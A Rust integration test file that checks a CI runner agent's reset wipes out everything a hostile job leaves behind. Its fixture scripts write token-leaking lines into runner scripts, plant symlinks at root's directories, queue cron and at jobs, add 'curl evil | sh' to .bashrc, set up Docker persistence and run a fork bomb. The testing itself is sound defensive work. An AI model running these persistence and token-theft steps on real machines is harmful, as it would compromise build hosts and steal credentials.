//! Hostile jobs: a job is code the runner user runs, written to outlive its
//! run. The shipped agent with a dedicated runner user (a real user this
//! test creates), the fake runner running each job's steps as that user
//! between the job hooks (as Runner.Worker does), the real `crontab` and
//! `at` (Debian's cron and at), util-linux's `ipcmk`. After every release
//! nothing the job did may reach the next run, and nothing outside what
//! the reset owns may have been touched.

use stack::agent::AgentSpec;
use stack::users::{at_jobs_of, root_or_skip, sysv_of, TestUser};
use stack::{Stack, StackOptions, INITIAL_RUN_ID};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::time::Duration;

/// This file's patience (signals after a reset, a job's steps): twice
/// `stack::SIGNAL_WAIT`.
const RESET_WAIT: Duration = Duration::from_secs(60);
const RUNS: usize = 10;
/// Files in each root-owned directory a job points a link at.
const PRECIOUS_FILES: usize = 40;
const BASHRC: &str = "# the operator's\n";

fn root_only() -> bool {
    root_or_skip("needs root (a user of its own, chown, cron)")
}

/// Root's directories outside anything the reset owns, each holding
/// files: the targets of the links the job plants.
fn precious(dir: &Path) -> Vec<PathBuf> {
    let mut made = Vec::new();
    for name in ["ssh", "docker", "work", "diag"] {
        let target = dir.join("precious").join(name);
        std::fs::create_dir_all(&target).unwrap();
        for i in 0..PRECIOUS_FILES {
            std::fs::write(target.join(format!("file-{i}")), "root's").unwrap();
        }
        made.push(target);
    }
    std::fs::set_permissions(dir.join("precious"), std::fs::Permissions::from_mode(0o755)).unwrap();
    made
}

/// Everything a job can try, as the runner user, from its workspace. Each
/// attempt that should be refused prints a `BREACH` line if it works.
fn hostile_job(stack: &Stack, run: usize, leak: &Path) -> String {
    let paths = [
        stack.runner_dir(),
        stack.home_dir(),
        stack.dir.path().join("tmp"),
        stack.dir.path().join("precious"),
    ];
    let [r, h, t, p] = paths.each_ref().map(|p| p.display());
    let leak = leak.display();
    format!(
        r#"set +e
R='{r}'; H='{h}'; T='{t}'; P='{p}'
for f in "$R/config.sh" "$R/run.sh" "$R/bin/Runner.Listener" "$R/.env" "$R/.runner-agent/job-started.sh" "$R/.runner-agent/job-completed.sh"; do
    if echo 'echo "LEAK:$ACTIONS_RUNNER_INPUT_TOKEN" >> {leak}' >> "$f" 2>/dev/null; then echo "BREACH wrote $f"; fi
done
mv "$R/config.sh" "$R/config.sh.old" 2>/dev/null && echo "BREACH moved config.sh"
echo x > "$R/planted" 2>/dev/null && echo "BREACH created a file in the install"
rm -rf "$R/_diag" 2>/dev/null; ln -sT "$P/diag" "$R/_diag" 2>/dev/null && echo "BREACH replaced _diag"
ln -s "$P/diag" "$R/_diag/planted-link"
ln -s "$P/work" "$R/_work/planted-link"
rm -rf "$H/.ssh" "$H/.docker"
ln -s "$P/ssh" "$H/.ssh"
ln -s "$P/docker" "$H/.docker"
echo '* * * * * touch /tmp/ra-hostile-cron' | crontab - || echo "no crontab queued"
echo 'touch /tmp/ra-hostile-at' | at now + 2 hours 2>/dev/null || echo "no at job queued"
mkdir -p "$H/.config/systemd/user"
printf '[Service]\nExecStart=/bin/true\n' > "$H/.config/systemd/user/evil.service"
echo 'curl evil | sh' >> "$H/.bashrc"
printf '[core]\n\tfsmonitor = evil\n' > "$H/.gitconfig"
mkdir -p "$H/.cargo" && echo '[build]' > "$H/.cargo/config.toml"
echo x > /dev/shm/ra-hostile-{run}
mkdir -p "$T/shared/deep/er" && echo x > "$T/shared/deep/er/evil"
echo x > "$T/shared/deep/mine"
ipcmk -S 1 >/dev/null || echo "no semaphore made"
echo steps done
"#
    )
}

/// A process of the user started outside the runner's cgroup (as cron or
/// a user manager would start one), named with bytes that are not UTF-8.
fn stray_process(user: &TestUser) -> std::process::Child {
    std::process::Command::new("setpriv")
        .arg(format!("--reuid={}", user.uid))
        .arg(format!("--regid={}", user.gid))
        .arg("--clear-groups")
        .args([
            "setsid",
            "sh",
            "-c",
            "printf 'job\\377\\376' > /proc/self/comm; while :; do sleep 0.2; done",
        ])
        .spawn()
        .unwrap()
}

fn digest(path: &Path) -> Vec<u8> {
    use sha2::{Digest, Sha256};
    Sha256::digest(std::fs::read(path).unwrap()).to_vec()
}

/// Ten runs of the hostile job above: after every release the reset
/// succeeded, no attempt on the install worked, every root-owned file a
/// link pointed at is still there, and nothing the job left for later is
/// left: crontab, at job, linger, user unit, shell and tool config, shared
/// memory, deep temp files, SysV semaphores, a renamed process outside the
/// cgroup. The next run registers with the verified config.sh, and no
/// token ever reaches a file the job could plant.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ten_hostile_runs_leave_nothing_for_the_next() {
    if !root_only() {
        return;
    }
    let stack = Stack::start(StackOptions::default()).await;
    let dir = stack.dir.path();
    let user = TestUser::with_home("ra-hostile", &stack.home_dir());
    stack.open_to_runner_user();
    // What the operator prepared: kept, and put back after every run.
    let home = stack.home_dir();
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/authorized_keys"), "operator-key\n").unwrap();
    std::fs::write(home.join(".bashrc"), BASHRC).unwrap();
    for path in [".ssh", ".ssh/authorized_keys", ".bashrc"] {
        std::os::unix::fs::lchown(home.join(path), Some(user.uid), Some(user.gid)).unwrap();
    }
    // A shared temp dir two levels deep (root's, world-writable, sticky).
    let shared = dir.join("tmp/shared/deep");
    std::fs::create_dir_all(&shared).unwrap();
    for d in [dir.join("tmp"), dir.join("tmp/shared"), shared.clone()] {
        std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o1777)).unwrap();
    }
    let targets = precious(dir);
    let leak = dir.join("leak");
    let _agent = stack.spawn_agent(&AgentSpec {
        user: Some(user.name.into()),
        reset: vec![format!(
            "temp_dirs = [\"{}\", \"/dev/shm\"]",
            dir.join("tmp").display()
        )],
        ..Default::default()
    });
    stack
        .assert_signal("UD_REG_OK", INITIAL_RUN_ID, RESET_WAIT)
        .await;
    let config_sh = stack.runner_dir().join("config.sh");
    let verified = digest(&config_sh);
    let id = stack.instance_id.clone();
    let mut previous = (INITIAL_RUN_ID.to_owned(), "created");
    for run in 1..=RUNS {
        let (run_id, from) = previous.clone();
        stack.queue_steps(&run_id, &hostile_job(&stack, run, &leak));
        stack.wait_steps(&run_id).await;
        let steps = stack.steps_log(&run_id);
        assert!(!steps.contains("BREACH"), "run {run}: {steps}");
        assert!(
            !steps.contains("no "),
            "run {run}: the job could not persist: {steps}"
        );
        // What only root could do for the job: logind's linger flag (as
        // `loginctl enable-linger` makes it), a process outside the cgroup.
        let linger = Path::new("/var/lib/systemd/linger").join(user.name);
        std::fs::create_dir_all(linger.parent().unwrap()).unwrap();
        std::fs::write(&linger, "").unwrap();
        let mut stray = stray_process(&user);
        assert!(
            !at_jobs_of(user.uid).is_empty(),
            "run {run}: the at job was queued"
        );
        assert!(
            !sysv_of(user.uid).is_empty(),
            "run {run}: the semaphore was made"
        );

        stack.cp.release(&id, &run_id, from).await;
        stack
            .assert_signal("UD_REMOVE_REG_REMOVE_RUN_OK", &run_id, RESET_WAIT)
            .await;

        for target in &targets {
            let left = std::fs::read_dir(target).unwrap().count();
            assert_eq!(
                left,
                PRECIOUS_FILES,
                "run {run}: {} emptied",
                target.display()
            );
        }
        assert_eq!(digest(&config_sh), verified, "run {run}");
        assert!(!stack.runner_dir().join("planted").exists());
        let crontab = std::process::Command::new("crontab")
            .args(["-l", "-u", user.name])
            .output()
            .unwrap();
        assert!(
            !crontab.status.success(),
            "run {run}: crontab left: {crontab:?}"
        );
        assert_eq!(
            at_jobs_of(user.uid),
            Vec::<PathBuf>::new(),
            "run {run}: at jobs left"
        );
        assert!(!linger.exists(), "run {run}: linger left");
        assert_eq!(sysv_of(user.uid), vec![], "run {run}");
        assert!(
            !Path::new(&format!("/dev/shm/ra-hostile-{run}")).exists(),
            "run {run}"
        );
        assert!(
            !shared.join("er").exists() && !shared.join("mine").exists(),
            "run {run}"
        );
        assert!(shared.is_dir(), "run {run}: root's shared dir kept");
        for gone in [".config/systemd", ".gitconfig", ".cargo"] {
            assert!(!home.join(gone).exists(), "run {run}: {gone} left");
        }
        assert_eq!(
            std::fs::read_to_string(home.join(".bashrc")).unwrap(),
            BASHRC
        );
        assert!(!home.join(".ssh").is_symlink() && !home.join(".docker").exists());
        assert_eq!(
            std::fs::read_to_string(home.join(".ssh/authorized_keys")).unwrap(),
            "operator-key\n",
            "run {run}"
        );
        for path in ["_work", "_diag"] {
            let meta = std::fs::symlink_metadata(stack.runner_dir().join(path)).unwrap();
            assert!(meta.is_dir() && meta.uid() == user.uid, "run {run}: {path}");
        }
        let status = tokio::time::timeout(Duration::from_secs(5), async {
            loop {
                if let Some(status) = stray.try_wait().unwrap() {
                    return status;
                }
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        })
        .await
        .unwrap_or_else(|_| panic!("run {run}: the renamed process outside the cgroup survived"));
        assert!(!status.success());

        let next = format!("7000-{run}");
        stack.cp.claim(&id, &next).await;
        stack.assert_signal("UD_REG_OK", &next, RESET_WAIT).await;
        assert!(
            !leak.exists(),
            "run {run}: a token reached {}",
            leak.display()
        );
        previous = (next, "claimed");
    }
    assert_eq!(stack.count_events("CONFIGURE "), RUNS + 1);
}

/// Docker state a job makes to come back, with the real dockerd of the
/// reset tests (`images = "baseline"`): a `--restart=always` container, a
/// swarm with a service (whose tasks come back after every removal), the
/// baseline image re-tagged to an image the job committed, a tag of its
/// own. After each release none of it is left, the baseline tag names the
/// baseline image again, and the operator's container and image stay.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn docker_state_that_comes_back_is_gone() {
    use stack::docker::{Dockerd, IMAGE};
    let dockerd = Dockerd::start();
    let sidecar = dockerd.lines(&[
        "run",
        "-d",
        "--network",
        "none",
        "--name",
        "sidecar",
        IMAGE,
        "sleep",
        "1000",
    ]);
    let image_id = dockerd.lines(&["image", "inspect", "--format", "{{.Id}}", IMAGE]);
    let stack = Stack::start(StackOptions::default()).await;
    let host = dockerd.host();
    let agent = stack.spawn_agent(&AgentSpec {
        reset: vec![
            "docker = \"required\"".into(),
            format!("docker_host = \"{host}\""),
            "images = \"baseline\"".into(),
        ],
        ..Default::default()
    });
    stack
        .assert_signal("UD_REG_OK", INITIAL_RUN_ID, RESET_WAIT)
        .await;
    let id = stack.instance_id.clone();
    let mut previous = (INITIAL_RUN_ID.to_owned(), "created");
    for run in 1..=3 {
        let (run_id, from) = previous.clone();
        let job = format!(
            r#"d() {{ docker --host '{host}' "$@"; }}
d run -d --restart=always --network none {IMAGE} sleep 1000 >/dev/null
d swarm init --advertise-addr 127.0.0.1 --listen-addr 127.0.0.1:0 >/dev/null
d service create --detach --name evil-{run} --restart-condition any {IMAGE} sleep 1000 >/dev/null
d run --name mk-{run} --network none {IMAGE} sh -c 'echo evil > /evil'
d commit mk-{run} {IMAGE} >/dev/null
d tag {IMAGE} job-image:{run}
d rm mk-{run} >/dev/null
echo steps done
"#
        );
        stack.queue_steps(&run_id, &job);
        stack.wait_steps(&run_id).await;
        // The service's task runs before the release.
        let started = std::time::Instant::now();
        while dockerd
            .lines(&["ps", "-q", "--filter", "name=evil-"])
            .is_empty()
        {
            assert!(
                started.elapsed() < RESET_WAIT,
                "run {run}: no service task: {}",
                stack.steps_log(&run_id)
            );
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        assert_ne!(
            dockerd.lines(&["image", "inspect", "--format", "{{.Id}}", IMAGE]),
            image_id,
            "run {run}: the job re-tagged the baseline image"
        );
        stack.cp.release(&id, &run_id, from).await;
        stack
            .assert_signal("UD_REMOVE_REG_REMOVE_RUN_OK", &run_id, RESET_WAIT)
            .await;
        // Nothing comes back a while later either.
        tokio::time::sleep(Duration::from_secs(2)).await;
        assert_eq!(
            dockerd.lines(&["ps", "-aq", "--no-trunc"]),
            sidecar,
            "run {run}"
        );
        assert_eq!(
            dockerd.lines(&["info", "--format", "{{.Swarm.LocalNodeState}}"]),
            ["inactive"],
            "run {run}"
        );
        assert_eq!(
            dockerd.lines(&["image", "inspect", "--format", "{{.Id}}", IMAGE]),
            image_id,
            "run {run}: the baseline tag names the baseline image"
        );
        assert!(
            dockerd
                .lines(&["image", "ls", "-q", "job-image"])
                .is_empty(),
            "run {run}: the job's image stays"
        );
        let next = format!("8000-{run}");
        stack.cp.claim(&id, &next).await;
        stack.assert_signal("UD_REG_OK", &next, RESET_WAIT).await;
        previous = (next, "claimed");
    }
    assert!(
        agent.log_text().contains("swarm left"),
        "{}",
        agent.log_text()
    );
}

/// A bounded fork bomb and a job allocating past the memory limit, with
/// the runner's cgroup limited to 200 processes and 64 MiB: the agent
/// keeps its heartbeat (no gap over 10 s, where the control plane's limit
/// is 15 s), the release is signalled, the next claim registers.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fork_bomb_and_a_memory_hog_do_not_starve_the_agent() {
    if !root_only() {
        return;
    }
    let stack = Stack::start(StackOptions::default()).await;
    let agent = stack.spawn_agent(&AgentSpec {
        reset: vec![
            "runner_pids_max = 200".into(),
            "runner_memory_max = \"64MiB\"".into(),
        ],
        ..Default::default()
    });
    stack
        .assert_signal("UD_REG_OK", INITIAL_RUN_ID, RESET_WAIT)
        .await;
    assert!(
        agent.log_text().contains("pids 200, memory 67108864"),
        "limits not applied:\n{}",
        agent.log_text()
    );
    // At most 15 s of forking (bash retries a refused fork), 400 sleepers
    // at most; then 128 MiB in one subshell, which the cgroup's OOM killer
    // ends.
    let job = r#"set +e
timeout -s KILL 15 bash -c 'for i in $(seq 1 400); do sleep 60 & done; wait' 2>/dev/null
echo "forked: $?"
( x=$(head -c 134217728 /dev/zero | tr '\0' x); echo "allocated ${#x}" )
echo "hog: $?"
echo steps done
"#;
    stack.queue_steps(INITIAL_RUN_ID, job);
    let id = stack.instance_id.clone();
    // The heartbeat while the job runs.
    let mut beats = Vec::new();
    let started = std::time::Instant::now();
    while !stack.steps_log(INITIAL_RUN_ID).contains("steps done") {
        assert!(
            started.elapsed() < RESET_WAIT,
            "the job did not finish: {}",
            stack.steps_log(INITIAL_RUN_ID)
        );
        if let Some(beat) = stack.cp.heartbeat(&id).await {
            if let Some(aws_sdk_dynamodb::types::AttributeValue::S(at)) = beat.get("updatedAt") {
                if beats.last() != Some(at) {
                    beats.push(at.clone());
                }
            }
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    let steps = stack.steps_log(INITIAL_RUN_ID);
    assert!(
        !steps.contains("allocated 134217728"),
        "the hog was not stopped: {steps}"
    );
    let times: Vec<time::OffsetDateTime> = beats
        .iter()
        .map(|b| {
            time::OffsetDateTime::parse(b, &time::format_description::well_known::Rfc3339).unwrap()
        })
        .collect();
    assert!(times.len() >= 2, "heartbeats seen: {beats:?}");
    for pair in times.windows(2) {
        let gap = pair[1] - pair[0];
        assert!(
            gap <= time::Duration::seconds(10),
            "heartbeat gap {gap}: {beats:?}"
        );
    }
    stack.cp.release(&id, INITIAL_RUN_ID, "created").await;
    stack
        .assert_signal("UD_REMOVE_REG_REMOVE_RUN_OK", INITIAL_RUN_ID, RESET_WAIT)
        .await;
    stack.cp.claim(&id, "9000-1").await;
    stack.assert_signal("UD_REG_OK", "9000-1", RESET_WAIT).await;
}
